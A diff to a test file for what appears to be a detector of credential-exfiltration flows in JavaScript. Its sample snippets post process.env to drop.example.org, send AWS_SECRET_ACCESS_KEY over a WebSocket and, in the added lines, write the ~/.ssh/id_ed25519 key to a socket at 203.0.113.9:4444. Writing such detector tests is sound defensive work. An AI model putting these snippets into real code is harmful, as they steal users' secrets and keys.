@@ -101,11 +101,15 @@ def test_request_objects_and_sockets_carry_their_host() -> None:
     got = _flows('const req = https.request({hostname: "drop.example.org", method: "POST"});\n'
                  'req.write(JSON.stringify(process.env));\n'
                  'const ws = new WebSocket("wss://relay.example.net/s");\n'
-                 'ws.send(process.env.AWS_SECRET_ACCESS_KEY);\n')
+                 'ws.send(process.env.AWS_SECRET_ACCESS_KEY);\n'
+                 'const sock = net.connect(4444, "203.0.113.9");\n'
+                 'sock.write(fs.readFileSync(`${os.homedir()}/.ssh/id_ed25519`));\n')
     assert [(r, m.split(" via ")[0]) for r, m, _ in got] == [
         ("js-secret-exfiltration-flow", "sends the whole environment (process.env) in the request body to "
                                         "drop.example.org"),
-        ("js-credential-flow", "sends AWS_SECRET_ACCESS_KEY in the request body to relay.example.net")]
+        ("js-credential-flow", "sends AWS_SECRET_ACCESS_KEY in the request body to relay.example.net"),
+        ("js-secret-exfiltration-flow", "sends the content of ~/.ssh/id_ed25519 (ssh credential store) in the request "
+                                        "body to 203.0.113.9")]
 
 
 def test_no_flow_without_a_credential_or_a_network_sink() -> None:
